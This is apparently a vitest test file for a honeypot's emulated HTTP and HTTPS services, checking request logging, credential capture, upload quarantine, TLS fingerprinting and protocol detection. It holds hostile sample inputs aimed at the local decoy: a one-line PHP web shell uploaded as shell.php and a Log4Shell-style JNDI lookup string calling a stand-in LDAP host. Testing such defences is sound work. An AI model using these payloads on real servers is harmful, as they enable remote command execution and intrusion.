import { spawn } from "node:child_process";
import { once } from "node:events";
import { connect } from "node:net";
import { describe, expect, test } from "vitest";
import { http } from "../http/index.ts";
import { https } from "../https/index.ts";
import { startDecoy } from "../testing/start-decoy.ts";

async function curl(...args: readonly string[]): Promise<string> {
  const child = spawn("curl", ["-s", "-i", "--max-time", "10", ...args], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  let text = "";
  child.stdout.setEncoding("utf8").on("data", (chunk: string) => {
    text += chunk;
  });
  await once(child, "close");
  return text;
}

const fields = (event: { readonly fields: Readonly<Record<string, string>> }) => event.fields;

describe("http", () => {
  test("a request is answered and recorded whole", async () => {
    await using decoy = await startDecoy(http, { options: { server: "nginx", fake_app: "none" } });
    const answer = await curl(
      `http://127.0.0.1:${decoy.port(80)}/?q=1`,
      "-A",
      "probe/1.0",
      "-H",
      "X-One: a",
      "-H",
      "X-Two: b",
    );
    expect(answer).toContain("Server: nginx/1.22.1");
    const request = fields(await decoy.waitFor("request"));
    expect(request).toMatchObject({
      method: "GET",
      path: "/",
      query: "q=1",
      status: "200",
      user_agent: "probe/1.0",
      remote_addr: "127.0.0.1",
    });
    expect(JSON.parse(request["headers_ordered"] ?? "")).toEqual([
      "Host",
      "User-Agent",
      "Accept",
      "X-One",
      "X-Two",
    ]);
  });

  test("a form, Basic and JSON give the exact password", async () => {
    await using decoy = await startDecoy(http, { options: { fake_app: "intranet" } });
    const url = `http://127.0.0.1:${decoy.port(80)}/login`;
    const secret = 'p"a]s\\ß:1';
    await curl(url, "--data-urlencode", "username=ann", "--data-urlencode", `password=${secret}`);
    await curl(url, "-u", `bob:${secret}`);
    await curl(
      url,
      "-H",
      "Content-Type: application/json",
      "-d",
      JSON.stringify({ user: "eve", pass: secret }),
    );
    for (const [principal, scheme] of [
      ["ann", "form"],
      ["bob", "Basic"],
      ["eve", "form"],
    ] as const) {
      const request = fields(await decoy.waitFor("request"));
      expect(request).toMatchObject({ principal, auth_scheme: scheme });
      expect(Buffer.from(request["secret_b64"] ?? "", "base64").toString()).toBe(secret);
    }
  });

  test("an upload and a PUT go to quarantine, and a long body too", async () => {
    await using decoy = await startDecoy(http, { options: { fake_app: "intranet" } });
    const url = `http://127.0.0.1:${decoy.port(80)}/x.php`;
    await curl(url, "-F", "f=@-;filename=shell.php", "--form-string", "a=b").catch(() => "");
    await curl(url, "-X", "PUT", "-d", "<?php system($_GET['c']);");
    const captured = fields(
      await decoy.waitFor("file_captured", ({ fields: { orig_path } }) => orig_path === "/x.php"),
    );
    expect(captured["method"]).toBe("http");
    const files = [...(await decoy.captured()).values()].map((bytes) => bytes.toString());
    expect(files).toContain("<?php system($_GET['c']);");
  });

  test("a lookup string names whom it would call, and nobody is called", async () => {
    await using decoy = await startDecoy(http, {});
    await curl(`http://127.0.0.1:${decoy.port(80)}/`, "-A", "${${lower:j}ndi:ldap://192.0.2.7:1389/x}");
    expect(fields(await decoy.waitFor("callback"))).toMatchObject({
      scheme: "ldap",
      host: "192.0.2.7:1389",
      place: "User-Agent",
    });
  });

  test("a client that sends a byte a second is cut off, one that sends garbage is bounded", async () => {
    await using decoy = await startDecoy(http, { limits: { bytesIn: 100_000 } });
    const socket = connect({ port: decoy.port(80), host: "127.0.0.1" }).on("error", () => {});
    const block = Buffer.alloc(65_536, 0x41);
    const flood = (): void => {
      while (socket.writable && socket.write(block));
    };
    socket.on("drain", flood).resume();
    flood();
    await once(socket, "close");
    expect(fields(await decoy.waitFor("disconnect"))["bytes_in"]).toMatch(/^\d{1,7}$/);
  });

  test("another protocol on the port is named", async () => {
    await using decoy = await startDecoy(http, {});
    const socket = connect({ port: decoy.port(80), host: "127.0.0.1" }).on("error", () => {});
    socket.end("SSH-2.0-OpenSSH_9.6\r\n");
    socket.resume();
    expect(fields(await decoy.waitFor("foreign_protocol"))).toMatchObject({ guess: "ssh" });
  });
});

describe("https", () => {
  test("the hello is recorded, the certificate is the decky's own and stays, the request is marked", async () => {
    await using decoy = await startDecoy(https, { options: { server: "apache", fake_app: "none" } });
    const url = `https://127.0.0.1:${decoy.port(443)}/`;
    const answer = await curl("-k", "-v", url, "--stderr", "-");
    expect(answer).toContain("Server: Apache/2.4.71 (Debian)");
    expect(fields(await decoy.waitFor("tls_client_hello"))["ja4"]).toMatch(/^t1[23]i\d{4}/);
    expect(fields(await decoy.waitFor("request"))).toMatchObject({ tls: "true", status: "200" });
  });

  test("plain HTTP on the TLS port is answered in the clear", async () => {
    await using decoy = await startDecoy(https, { options: { server: "nginx" } });
    const answer = await curl(`http://127.0.0.1:${decoy.port(443)}/`);
    expect(answer).toContain("The plain HTTP request was sent to HTTPS port");
    expect(fields(await decoy.waitFor("foreign_protocol"))).toMatchObject({ guess: "http" });
  });
});
